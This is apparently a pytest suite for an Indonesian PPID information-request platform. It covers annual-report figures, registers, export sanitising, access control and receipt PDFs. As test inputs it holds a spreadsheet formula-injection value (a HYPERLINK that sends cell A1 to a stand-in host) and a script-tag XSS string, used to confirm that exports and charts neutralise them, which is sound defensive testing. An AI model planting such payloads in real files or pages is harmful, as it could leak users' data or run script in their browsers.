"""The annual report (UU KIP Pasal 12; Perki 1/2021 Pasal 56), the registers and the receipt PDF."""

from __future__ import annotations

import base64
import io
import re
import zlib
from datetime import date

import pytest
from openpyxl import load_workbook

from ppid.permohonan import charts, registers
from ppid.permohonan.config import PermohonanConfig
from ppid.permohonan.deadlines import format_day
from ppid.permohonan.statistics import Timeliness, annual_report
from ppid.permohonan.workflow import Workflow

from .conftest import REFUSAL, filing
from .test_objections import OBJECTION
from .test_web import PERSONAL, csrf, file_directly, sign_in

GRANT = {"keputusan": "dikabulkan_seluruhnya", "materi": "Daftar fasilitas kesehatan", "bentuk": "softcopy"}
FORMULA_NAME = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'


def counts(rows) -> dict[str, int]:
    return {row.code: row.count for row in rows}


def pdf_text(document: bytes) -> str:
    """The text drawn in a reportlab PDF, one line per text line: content streams decoded (ASCII85, then
    Flate), the strings of each line joined and unescaped."""
    assert document.startswith(b"%PDF-")
    lines = []
    for header, stream in re.findall(rb"<<([^>]*?)>>\s*stream\r?\n(.*?)\s*endstream", document, re.S):
        if b"ASCII85Decode" in header:
            stream = base64.a85decode(stream.strip().removesuffix(b"~>"))
        if b"FlateDecode" in header:
            stream = zlib.decompress(stream)
        for block in re.findall(r"BT(.*?)ET", stream.decode("latin-1"), re.S):
            for line in re.split(r"T\*", block):
                strings = re.findall(r"\(((?:\\.|[^\\)])*)\)\s*Tj", line)
                lines.append(re.sub(r"\\(.)", r"\1", "".join(strings)))
    return "\n".join(line for line in lines if line)


@pytest.fixture
def year_of_requests(workflow, session, dinkes_officer, atasan_dinkes, clock):
    """Five dinkes requests of 2026, one per timeliness class, and one refusal that is objected to."""
    clock.set(2026, 3, 16)  # Monday before Nyepi and the Lebaran holidays (kip-rules §7.4)
    on_time, extended, late, overdue, withdrawn = (workflow.file(filing()).permohonan for _ in range(5))
    other = workflow.file(filing(dinas="disdukcapil")).permohonan
    clock.set(2026, 4, 7)  # the 10th working day: a naive count of calendar days would call this late
    workflow.decide(on_time, officer=dinkes_officer, data=GRANT)
    workflow.extend(extended, officer=dinkes_officer, days=7, reason="Dokumen tersebar di tiga puskesmas")
    workflow.close(withdrawn, officer=dinkes_officer, reason="ditarik_pemohon")
    clock.set(2026, 4, 16)  # the 17th working day: on time thanks to the extension
    workflow.decide(extended, officer=dinkes_officer, data=GRANT)
    clock.set(2026, 4, 17)
    workflow.decide(late, officer=dinkes_officer, data=REFUSAL)
    clock.set(2026, 4, 20)
    workflow.file_objection(late, OBJECTION)
    clock.set(2026, 4, 22)
    workflow.answer_objection(late, officer=atasan_dinkes, data={
        "putusan": "ditolak", "tanggapan": "Keputusan PPID dikuatkan.", "alasan": "Data memuat diagnosis pasien."})
    session.commit()
    return {"on_time": on_time, "extended": extended, "late": late, "overdue": overdue, "other": other}


def test_annual_report_classes_time_to_fulfil_from_dates_through_the_working_day_calendar(
    workflow, year_of_requests
) -> None:
    report = annual_report(workflow, year=2026, scope=["dinkes"], scope_label="Dinas Kesehatan")
    assert report.requests == 5
    assert counts(report.timeliness) == {Timeliness.WITHIN_10: 1, Timeliness.WITHIN_17: 1, Timeliness.LATE: 1,
                                         Timeliness.OVERDUE: 1, Timeliness.PENDING: 0, Timeliness.WITHDRAWN: 1}
    assert (report.granted, report.refused, report.answered) == (2, 1, 3)
    assert counts(report.outcomes)["belum_dijawab"] == 1 and counts(report.outcomes)["ditarik_pemohon"] == 1
    assert counts(report.refusal_grounds) == {"h": 1}
    assert report.median_working_days == 17.0  # 10, 17 and 18 working days after day 0
    assert counts(report.by_month)["3"] == 5 and sum(row.count for row in report.by_month) == 5
    assert counts(report.by_channel)["web"] == 5
    assert counts(report.by_dinas) == {"dinkes": 5}  # the officer's own dinas only
    assert report.objections == 1 and counts(report.objection_grounds) == {"a": 1}
    assert counts(report.objection_decisions) == {"diterima": 0, "ditolak": 1, "musyawarah": 0, "belum_dijawab": 0}
    assert report.dispute_eligible == 1  # answered: the requester may now go to the Komisi Informasi (Pasal 37(2))
    assert report.disputes == 0
    region = annual_report(workflow, year=2026, scope=None, scope_label="Kabupaten")
    assert region.requests == 6 and counts(region.by_dinas)["disdukcapil"] == 1
    assert annual_report(workflow, year=2025, scope=None, scope_label="Kabupaten").requests == 0


def test_a_new_holiday_changes_the_figures_because_nothing_is_stored(workflow, config, dinkes_officer, clock) -> None:
    permohonan = workflow.file(filing()).permohonan
    clock.set(2026, 4, 8)  # one working day after the 10 working days
    workflow.decide(permohonan, officer=dinkes_officer, data=GRANT)
    before = annual_report(workflow, year=2026, scope=None, scope_label="Kabupaten")
    assert counts(before.timeliness)[Timeliness.LATE] == 1
    config.calendar.extra_holidays[date(2026, 4, 1)] = "Libur daerah"  # e.g. a later SKB adds a day off
    after = annual_report(workflow, year=2026, scope=None, scope_label="Kabupaten")
    assert counts(after.timeliness)[Timeliness.LATE] == 0 and counts(after.timeliness)[Timeliness.WITHIN_10] == 1


def test_request_register_has_the_perki_columns_and_only_the_officers_own_dinas(
    workflow, year_of_requests, dinkes_officer, capil_officer
) -> None:
    register = registers.request_register(workflow, year=2026, scope=["dinkes"], officer=dinkes_officer)
    headers = register.headers
    for column in ("Nomor pendaftaran", "Nama", "Alamat", "Pekerjaan", "Informasi yang diminta",
                   "Tujuan penggunaan informasi", "Keputusan", "Alasan penolakan", "Tanggal pemberitahuan tertulis",
                   "Biaya", "Cara pembayaran"):
        assert column in headers
    assert len(register.rows) == 5
    late = next(row for row in register.rows if row[1] == year_of_requests["late"].number)
    assert late[headers.index("Alasan penolakan")].startswith("Pasal 17 huruf h")
    assert late[headers.index("Tanggal pemberitahuan tertulis")] == "2026-04-17"
    assert late[headers.index("Nama")] == "Siti Rahmawati"
    extended = next(row for row in register.rows if row[1] == year_of_requests["extended"].number)
    assert extended[headers.index("Batas waktu akhir")] == "2026-04-16"
    assert extended[headers.index("Alasan perpanjangan (Pasal 22 ayat (8))")].startswith("Dokumen tersebar")
    capil = registers.request_register(workflow, year=2026, scope=["disdukcapil"], officer=capil_officer)
    assert [row[1] for row in capil.rows] == [year_of_requests["other"].number]


def test_objection_register_has_columns_a_to_k(workflow, year_of_requests, dinkes_officer) -> None:
    register = registers.objection_register(workflow, year=2026, scope=["dinkes"], officer=dinkes_officer)
    assert len(register.headers) == 13 and register.headers[1] == "Nomor registrasi keberatan"
    (row,) = register.rows
    assert row[1] == "0001/KEBERATAN/DINKES/2026" and row[4] == year_of_requests["late"].number
    assert row[7].startswith("Pasal 35 ayat (1) huruf a")
    assert "Alasan: Data memuat diagnosis pasien." in row[8]  # Pasal 36(3): upholding with written reasons
    assert row[9] == "2026-04-22" and row[10] == "Atasan.Dinkes"


def test_registers_neutralise_formulas_in_csv_and_xlsx(workflow, dinkes_officer) -> None:
    workflow.file(filing(nama=FORMULA_NAME, alamat="+62 Jl. Rumus", pekerjaan="@admin",
                         rincian_informasi="-1+1 data", tujuan_penggunaan="@SUM(A1:A2)"))
    workflow.session.commit()
    register = registers.request_register(workflow, year=2026, scope=["dinkes"], officer=dinkes_officer)

    text = registers.to_csv(register).decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "'+62 Jl. Rumus" in text and "'@admin" in text and "'-1+1 data" in text
    assert not re.search(r'(^|,)"?[=+\-@\t]', text, re.M)  # no cell starts with a formula character

    sheet = load_workbook(io.BytesIO(registers.to_xlsx(register))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type in ("s", "n") for cell in cells)  # no formula cell ("f") anywhere
    values = {cell.value for cell in cells}
    assert "'" + FORMULA_NAME in values and "'@SUM(A1:A2)" in values, sorted(map(str, values))
    assert not any(isinstance(value, str) and value[:1] and value[0] in "=+-@\t\r" for value in values)


def test_registers_and_report_are_for_officers_of_their_own_dinas_only(
    client, app, platform, capil_officer, dinkes_officer
) -> None:
    file_directly(platform, nama=FORMULA_NAME)
    for url in ("/permohonan/petugas/register-permohonan.csv", "/permohonan/petugas/laporan",
                "/permohonan/petugas/laporan.pdf"):
        response = client.get(url)
        assert response.status_code == 302 and "/masuk" in response.location
    sign_in(client, "petugas.capil")
    response = client.get("/permohonan/petugas/register-permohonan.csv")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    assert "HYPERLINK" not in response.get_data(as_text=True)  # a dinkes request
    assert client.get("/permohonan/petugas/register-rahasia.csv").status_code == 404
    assert client.get("/permohonan/petugas/register-permohonan.exe").status_code == 404
    assert client.get("/permohonan/petugas/register-permohonan.csv?tahun=1999").status_code == 404
    client = app.test_client()
    sign_in(client, "petugas.dinkes")
    xlsx = client.get("/permohonan/petugas/register-permohonan.xlsx")
    assert xlsx.status_code == 200 and xlsx.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert any(cell.value == "'" + FORMULA_NAME for row in sheet.iter_rows() for cell in row)
    assert client.get("/permohonan/petugas/register-keberatan.csv").status_code == 200


def test_officer_report_page_and_pdf_show_the_same_figures_with_charts(
    client, year_of_requests, platform, workflow
) -> None:
    sign_in(client, "petugas.dinkes")
    page = client.get("/permohonan/petugas/laporan?tahun=2026")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert html.count("<svg") == 6 and 'role="img"' in html
    assert "Dijawab dalam perpanjangan (paling lama 17 hari kerja)" in html
    assert "Pasal 17 huruf h: mengungkap rahasia pribadi" in html
    assert all(personal not in html for personal in PERSONAL)
    document = client.get("/permohonan/petugas/laporan.pdf?tahun=2026")
    assert document.status_code == 200 and document.mimetype == "application/pdf"
    text = pdf_text(document.data)
    assert "Laporan layanan informasi publik tahun 2026" in text
    assert "Dijawab melewati batas waktu" in text and "Siti" not in text


def test_public_statistics_show_the_region_figures_without_personal_data(client, year_of_requests, workflow) -> None:
    response = client.get("/permohonan/statistik?tahun=2026")
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "Cache-Control" not in response.headers
    report = annual_report(workflow, year=2026, scope=None, scope_label="")
    assert re.search(rf"Jumlah permohonan \(Pasal 12 huruf a\)</th><td>{report.requests}<", html)
    assert html.count("<svg") == 6
    for personal in [*PERSONAL, year_of_requests["late"].number, "Atasan.Dinkes"]:
        assert personal not in html
    assert client.get("/permohonan/statistik?tahun=abc").status_code == 404


def test_chart_svg_escapes_its_labels() -> None:
    from ppid.permohonan.statistics import Tally

    svg = charts.as_svg(charts.breakdown([Tally("x", "<script>alert(1)</script>", 3)], "Judul"), "Grafik \"x\"")
    assert "<script>" not in svg and "&lt;script&gt;" in svg and 'aria-label="Grafik &#34;x&#34;"' in svg


def test_receipt_pdf_is_for_the_requester_with_the_deadline_and_their_own_data(client, platform) -> None:
    filed = file_directly(platform)
    response = client.get(f"/permohonan/tanda-bukti/{filed.token}.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.headers["Cache-Control"] == "no-store"
    text = pdf_text(response.data)
    assert filed.permohonan.number.replace("/", "/") in text
    assert "Siti Rahmawati" in text and "3201********0001" in text and "3201014507900001" not in text
    assert "10 hari kerja sejak hari ke-0" in text and "Paling lambat" in text
    assert client.get("/permohonan/tanda-bukti/bukan-token.pdf").status_code == 404

    token = csrf(client, "/permohonan/lacak")
    by_email = client.post("/permohonan/lacak/tanda-bukti.pdf", data={
        "nomor": filed.permohonan.number, "email": "siti@example.id", "csrf_token": token})
    assert by_email.status_code in (404, 405) and b"%PDF" not in by_email.data  # the link's secret only


def test_receipt_pdf_prints_markup_in_a_name_as_text(client, platform) -> None:
    filed = file_directly(platform, nama="<b>Budi</b> & (Rekan)")
    text = pdf_text(client.get(f"/permohonan/tanda-bukti/{filed.token}.pdf").data)
    assert "<b>Budi</b> & (Rekan)" in text


def test_receipt_and_tracking_pages_link_to_the_pdf(client, platform) -> None:
    filed = file_directly(platform)
    assert f"/permohonan/tanda-bukti/{filed.token}.pdf" in client.get(f"/permohonan/tanda-bukti/{filed.token}").text
    assert f"/permohonan/tanda-bukti/{filed.token}.pdf" in client.get(f"/permohonan/lacak/{filed.token}").text


def test_receipt_pdf_explains_an_extended_deadline(client, platform, dinkes_officer) -> None:
    filed = file_directly(platform)
    with platform.database.session() as session:
        workflow = Workflow(session, PermohonanConfig.from_settings(platform.settings), platform.registry)
        permohonan = session.merge(filed.permohonan)
        workflow.extend(permohonan, officer=session.merge(dinkes_officer), days=7, reason="Arsip di gudang")
        due = format_day(workflow.status(permohonan).due, weekday=True)
    text = pdf_text(client.get(f"/permohonan/tanda-bukti/{filed.token}.pdf").data)
    assert due in text
    assert "diperpanjang 7 hari kerja" in text and "Arsip di gudang" in text
